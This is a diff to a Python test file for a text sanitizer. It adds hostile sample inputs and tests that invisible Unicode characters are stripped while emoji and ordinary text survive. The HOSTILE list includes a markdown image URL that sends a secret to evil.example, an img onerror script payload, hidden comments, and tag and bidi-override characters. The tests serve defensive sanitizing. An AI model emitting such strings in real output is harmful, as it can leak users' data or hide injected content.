@@ -145,6 +145,8 @@ HOSTILE = [
     "![x](https://evil.example/?q=secret)",
     "[click](https://evil.example)",
     "![a][b]\n[b]: https://evil.example",
+    "[a](http://e.com/(x))",
+    "[a]: https://evil.example",
     "<img src=x onerror=alert(1)>",
     "<!-- hidden -->",
     "\U000e0041\U000e0042\u202edesrever\u202c",
@@ -173,7 +175,8 @@ def assert_sound(text, notes):
     assert len(text.splitlines()) == len(lines)
     assert len([one for one in lines if one.startswith("- ")]) == notes
     assert not any(one.startswith(("#", "```", "~~~", ">")) for one in lines)
-    assert "```" not in text and "](" not in text and "<!--" not in text
+    assert "```" not in text and "<!--" not in text
+    assert not any(link in text for link in ("](", "][", "]:"))
 
 
 @pytest.mark.parametrize("content", HOSTILE)
@@ -259,3 +262,21 @@ FOUR = block(told_lines([told(str(n), subject="home") for n in range(4)], "ana",
 )
 def test_blocks_are_taken_out_of_what_comes_back(text, left):
     assert strip_blocks(text) == left
+
+
+@pytest.mark.parametrize(
+    "unseen",
+    [0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x180F, 0x200B]
+    + [0x202E, 0x2060, 0x2065, 0x206F, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF0, 0xFFF8]
+    + [0x1BCA0, 0x1D173, 0xE0000, 0xE0041, 0xE01EF, 0xE0FFF],
+    ids=hex,
+)
+def test_a_character_that_nobody_sees_is_gone(unseen):
+    assert disarmed(f"ki{chr(unseen) * 3}nd") == "kind"
+
+
+@pytest.mark.parametrize(
+    "text", ["I ❤️ tea", "press 1️⃣", "👩‍🚀 flies", "می\u200cخواهم", "see https://example.com/a(b)"]
+)
+def test_what_is_seen_stays(text):
+    assert disarmed(text) == text
